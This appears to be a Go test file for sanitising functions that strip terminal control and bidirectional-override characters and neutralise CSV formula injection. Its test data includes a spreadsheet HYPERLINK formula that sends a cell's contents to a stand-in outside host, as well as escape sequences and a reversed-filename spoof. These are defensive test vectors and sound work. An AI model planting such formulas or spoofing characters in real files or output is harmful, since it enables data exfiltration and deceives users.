package wording

import (
	"encoding/json"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

func TestWhatSteersATerminalIsLeftOut(t *testing.T) {
	for in, want := range map[string]string{
		"attic\x1b[2Jlamp\x07":             "attic[2Jlamp",
		"two\nlines\tand a tab\r":          "two\nlines\tand a tab",
		"gnp.\u202Ednuos\u202C \u2066x":    "gnp.dnuos x",
		"\u009b31mred":                     "31mred",
		"花崗岩 גרניט Kölle \U0001F3E0 plain": "花崗岩 גרניט Kölle \U0001F3E0 plain",
	} {
		assert.Equal(t, want, Safe(in))
		b, err := json.Marshal(in)
		require.NoError(t, err)
		var back string
		safe := SafeJSON(string(b))
		require.NoError(t, json.Unmarshal([]byte(safe), &back))
		assert.Equal(t, in, back, "JSON keeps what it holds")
		assert.Equal(t, Safe(safe), safe)
	}
}

func TestCellsOfCSVAreNoFormulas(t *testing.T) {
	for in, want := range map[string]string{
		`=HYPERLINK("http://192.0.2.1/"&A1)`: `'=HYPERLINK("http://192.0.2.1/"&A1)`,
		"+358 40":                            "'+358 40", "-cmd": "'-cmd", "@sum": "'@sum", "\tx": "'\tx", "\rx": "'\rx",
		"-81": "-81", "+1.5": "+1.5", "-81,5": "-81,5", "plain": "plain", "": "", "a=b": "a=b", "'quoted'": "'quoted'", "'-": "''-", "'-5": "'-5", "''=x": "'''=x",
	} {
		assert.Equal(t, want, Cell(in), "%q", in)
		assert.Equal(t, in, CellRead(Cell(in)), "%q comes back", in)
	}
}
